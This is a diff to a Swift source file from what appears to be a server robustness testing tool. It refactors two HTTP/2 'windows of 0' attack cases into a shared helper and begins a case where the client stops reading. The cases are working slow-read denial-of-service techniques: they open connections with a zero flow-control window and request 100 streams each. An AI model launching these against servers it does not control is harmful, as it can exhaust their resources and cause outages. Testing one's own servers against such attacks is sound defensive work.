@@ -38,27 +38,23 @@ extension Attack {
         }
     }
 
+    /// Streams that may never send a byte of their content.
+    private static func windowsOfZero(name: String, _ path: String) -> Attack {
+        Attack(name: name) { target, options in
+            await open(options.scaled(20)) { _ in
+                let connection = try await RawConnection.connect(target.tlsPort, protocols: ["h2"])
+                try await connection.send(HTTP2Frames.preface(window: 0) + HTTP2Frames.settingsAcknowledged)
+                for stream in 0..<100 {
+                    try await connection.send(HTTP2Frames.get(path, stream: UInt32(stream * 2 + 1)))
+                }
+                return connection
+            }
+        }
+    }
+
     static let all: [Attack] = [
-        Attack(name: "HTTP/2, windows of 0, 1 MiB each") { target, options in
-            await open(options.scaled(20)) { _ in
-                let connection = try await RawConnection.connect(target.tlsPort, protocols: ["h2"])
-                try await connection.send(HTTP2Frames.preface(window: 0) + HTTP2Frames.settingsAcknowledged)
-                for stream in 0..<100 {
-                    try await connection.send(HTTP2Frames.get("/medium", stream: UInt32(stream * 2 + 1)))
-                }
-                return connection
-            }
-        },
-        Attack(name: "HTTP/2, windows of 0, 60 KB each") { target, options in
-            await open(options.scaled(20)) { _ in
-                let connection = try await RawConnection.connect(target.tlsPort, protocols: ["h2"])
-                try await connection.send(HTTP2Frames.preface(window: 0) + HTTP2Frames.settingsAcknowledged)
-                for stream in 0..<100 {
-                    try await connection.send(HTTP2Frames.get("/small", stream: UInt32(stream * 2 + 1)))
-                }
-                return connection
-            }
-        },
+        windowsOfZero(name: "HTTP/2, windows of 0, 1 MiB each", "/medium"),
+        windowsOfZero(name: "HTTP/2, windows of 0, 60 KB each", "/small"),
         Attack(name: "HTTP/2, who stops reading the connection") { target, options in
             await open(options.scaled(20)) { _ in
                 let connection = try await RawConnection.connect(target.tlsPort, protocols: ["h2"])
